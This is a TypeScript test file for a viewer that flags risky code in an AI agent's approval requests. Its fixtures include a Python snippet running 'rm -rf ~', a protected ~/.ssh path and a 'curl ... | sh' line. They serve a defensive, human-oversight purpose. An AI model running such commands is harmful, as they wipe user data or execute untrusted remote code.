import { describe, expect, it } from "vitest";
import type { RiskFinding } from "../bindings/RiskFinding";
import { call, ev, runPython } from "../test/events";
import { TranscriptView } from "./transcript-view";
import { findingLines, highlightedLines } from "./risks";

const CODE = 'import os\nnote = """two\nlines"""\nos.system("rm -rf ~")\nprint("done")';

const RISKS: RiskFinding[] = [
  { rule: "rm-rf-broad", severity: "critical", reason: "deletes a whole tree", snippet: "rm -rf ~" },
  { rule: "os-system", severity: "medium", reason: "runs a shell command", snippet: 'os.system("rm -rf ~")' },
  { rule: "protected-path", severity: "high", reason: "writes to ~/.ssh", snippet: "~/.ssh/config" },
];

function card(risks: RiskFinding[] | undefined, code = CODE): HTMLElement {
  const view = new TranscriptView({ decide: () => {}, loadImage: async () => "", drafts: new Map() });
  view.load([ev({ type: "approval_requested", call: call("c1", runPython("c1", code)), warning: "deletes a whole tree", risks })]);
  return view.el.querySelector<HTMLElement>('[data-testid="call-card"]')!;
}

describe("risk findings", () => {
  it("lists each finding with its severity, rule, reason, snippet and line", () => {
    const el = card(RISKS);
    const items = [...el.querySelectorAll<HTMLElement>('[data-testid="risk"]')];
    expect(items.map((i) => [i.dataset.severity, i.dataset.rule])).toEqual([
      ["critical", "rm-rf-broad"],
      ["medium", "os-system"],
      ["high", "protected-path"],
    ]);
    const first = items[0]!;
    expect(first.querySelector('[data-testid="risk-severity"]')?.textContent).toBe("critical");
    expect(first.querySelector('[data-testid="risk-rule"]')?.textContent).toBe("rm-rf-broad");
    expect(first.textContent).toContain("deletes a whole tree");
    expect(first.querySelector('[data-testid="risk-snippet"]')?.textContent).toBe("rm -rf ~");
    expect(first.querySelector('[data-testid="risk-line"]')?.textContent).toBe("line 4");
    // A path the code does not spell out has no line, but is listed.
    expect(items[2]!.querySelector('[data-testid="risk-line"]')).toBeNull();
    expect(items[2]!.querySelector('[data-testid="risk-snippet"]')?.textContent).toBe("~/.ssh/config");
  });

  it("marks the lines the findings point at, worst severity first, with each rule beside it", () => {
    const el = card(RISKS);
    const risky = [...el.querySelectorAll<HTMLElement>('[data-testid="risky-line"]')];
    expect(risky.map((l) => l.dataset.line)).toEqual(["4"]);
    expect(risky[0]!.classList.contains("critical")).toBe(true);
    expect([...risky[0]!.querySelectorAll('[data-testid="risk-mark"]')].map((m) => m.textContent)).toEqual([
      "critical · rm-rf-broad",
      "medium · os-system",
    ]);
    // Every line of the code is still there, in order, highlighted.
    const lines = [...el.querySelectorAll("pre.code .line-text")].map((l) => l.textContent);
    expect(lines).toEqual(CODE.split("\n"));
    expect(el.querySelector("pre.code .hljs-keyword")?.textContent).toBe("import");
  });

  it("shows plain code with no findings", () => {
    const el = card(undefined, "print(1)");
    expect(el.querySelector('[data-testid="risks"]')).toBeNull();
    expect(el.querySelector('[data-testid="risky-line"]')).toBeNull();
    expect(el.querySelector("pre.code")?.textContent).toContain("print(1)");
  });

  it("keeps spans open across line breaks balanced on each line", () => {
    expect(highlightedLines('a<span class="s">"x\ny"</span>b')).toEqual(['a<span class="s">"x</span>', '<span class="s">y"</span>b']);
  });

  it("finds a snippet's lines, or the line holding its first line", () => {
    expect(findingLines("a\nb\nc", "b\nc")).toEqual([1, 2]);
    expect(findingLines("x = 1\ncurl http://e | sh  # go", "curl http://e | sh\nmore")).toEqual([1]);
    expect(findingLines("a", "zzz")).toEqual([]);
    expect(findingLines("a", "  ")).toEqual([]);
  });
});
